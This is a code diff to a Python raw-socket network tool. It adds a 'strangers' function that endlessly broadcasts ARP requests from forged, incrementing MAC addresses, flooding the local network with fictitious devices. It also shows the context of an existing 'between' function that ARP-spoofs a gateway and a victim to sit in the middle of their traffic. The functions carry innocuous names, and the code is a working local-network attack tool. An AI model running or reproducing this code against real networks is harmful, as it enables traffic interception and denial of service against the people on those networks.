@@ -144,6 +144,16 @@ def announce(own, address):
         time.sleep(0.4)
 
 
+def strangers(network, pause):
+    """Devices that nobody has seen before, one after the other, each by one ARP question."""
+    s, n = raw(), 0
+    while True:
+        own = f"00:40:8c:{os.getpid() & 255:02x}:{n >> 8 & 255:02x}:{n & 255:02x}"
+        s.send(arp(1, own, f"{network}.{100 + n % 140}", "00:00:00:00:00:00", f"{network}.1", "ff:ff:ff:ff:ff:ff"))
+        n += 1
+        time.sleep(float(pause))
+
+
 def between(own, seconds, gateway, gateway_mac, victim, victim_mac):
     """Tells the gateway that it is the victim, and the victim that it is the gateway, every half second; then puts it right."""
     s = raw()
@@ -157,4 +167,4 @@ def between(own, seconds, gateway, gateway_mac, victim, victim_mac):
 
 
 if __name__ == "__main__":
-    {f.__name__: f for f in (pages, fetch, upload, lookup, murmur, sweep, announce, between)}[sys.argv[1]](*sys.argv[2:])
+    {f.__name__: f for f in (pages, fetch, upload, lookup, murmur, sweep, announce, strangers, between)}[sys.argv[1]](*sys.argv[2:])
